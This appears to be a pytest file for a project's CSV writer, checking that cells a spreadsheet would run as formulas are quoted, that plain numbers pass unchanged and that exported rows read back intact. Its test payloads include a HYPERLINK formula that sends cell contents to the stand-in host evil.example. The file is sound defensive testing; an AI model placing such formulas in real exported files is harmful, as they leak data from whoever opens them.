"""Issue #23 item 5: no CSV that vsb writes holds a cell a spreadsheet runs as a formula
(OWASP: text starting with = + - @, a tab or a carriage return gets a leading quote), while
the JSON beside it keeps the exact text. One writer (``vsb.fsio.csv_text``) makes them all."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest

#: What a spreadsheet reads as the start of a formula (OWASP).
FORMULA_START = "=+-@\t\r"
#: A cell that is exactly a plain number may start with + or - (it holds no formula).
_NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")
PAYLOADS = ('=HYPERLINK("http://evil.example/?"&A1,"x")', "=1+1", "+2+3", "-2+3", "@SUM(A1)",
            "\t=1", "\r=1")  # fmt: skip


def formula_cells(path: Path) -> list[tuple[int, str]]:
    """(row, cell) of every cell of the CSV file at ``path`` that a spreadsheet would run."""
    with open(path, newline="", encoding="utf-8") as fh:
        return [
            (i, cell)
            for i, row in enumerate(csv.reader(fh))
            for cell in row
            if cell and cell[0] in FORMULA_START and not _NUMBER.fullmatch(cell)
        ]


def scan(*roots: Path) -> dict[str, list[tuple[int, str]]]:
    """Every CSV under ``roots`` with a formula cell -> those cells (empty: all safe)."""
    out = {}
    for root in roots:
        for path in sorted(root.rglob("*.csv")):
            bad = formula_cells(path)
            if bad:
                out[str(path)] = bad[:3]
    return out


@pytest.mark.parametrize("payload", PAYLOADS)
def test_text_that_starts_a_formula_is_quoted(payload: str) -> None:
    from vsb.fsio import csv_cell, csv_text

    assert csv_cell(payload) == "'" + payload
    text = csv_text(["a", "b"], [[payload, 1]])
    assert next(iter(csv.reader(io.StringIO(text[text.index("\n") + 1 :]))))[0] == "'" + payload


@pytest.mark.parametrize("value", [-0.5, -3, 0.25, "-0.5", "+0.084", "1e-5", "-", "", "a=b",
                                   "plain", None, True])  # fmt: skip
def test_numbers_and_plain_text_are_written_as_they_are(value: object) -> None:
    from vsb.fsio import csv_cell, csv_text

    expected = "'-" if value == "-" else value
    assert csv_cell(value) == expected
    row = next(iter(csv.reader(io.StringIO(csv_text(["x"], [[value]]).split("\n", 1)[1]))))
    assert row == ["" if value is None else str(expected)]


def test_json_keeps_the_exact_text() -> None:
    assert json.loads(json.dumps({"m": PAYLOADS[0]}))["m"] == PAYLOADS[0]


_CELLS = ["=1", "a,b", 'q"uote', "x\ny", "\r=1", "-1.5", "-x", "+", "@", "\t", "plain",
          "", None, -2.5, 3, True, ',"=x', "a\r\nb"]  # fmt: skip


def test_every_row_reads_back_as_its_escaped_cells() -> None:
    """Both ways through the writer (fast text, and the careful one a formula triggers) give
    CSV that reads back cell for cell, with no formula cell left."""
    import itertools

    from vsb.fsio import csv_cell, csv_text

    rows = [list(p) for p in itertools.product(_CELLS, repeat=2)]
    for some in (rows, [r for r in rows if not any(isinstance(x, str) and x[:1] != "" and x[0] in
                                                   FORMULA_START for x in r)]):  # fmt: skip
        text = csv_text(["a", "b"], some)
        back = list(csv.reader(io.StringIO(text, newline="")))
        assert back[0] == ["a", "b"]
        want = [["" if x is None else str(csv_cell(x)) for x in r] for r in some]
        assert back[1:] == want
        assert not [c for r in back for c in r if c != "" and c[0] in FORMULA_START and
                    not _NUMBER.fullmatch(c)]  # fmt: skip
    dicts = [{"a": r[0], "b": r[1], "extra": 1} for r in rows]
    assert csv_text(["a", "b"], dicts) == csv_text(["a", "b"], rows)
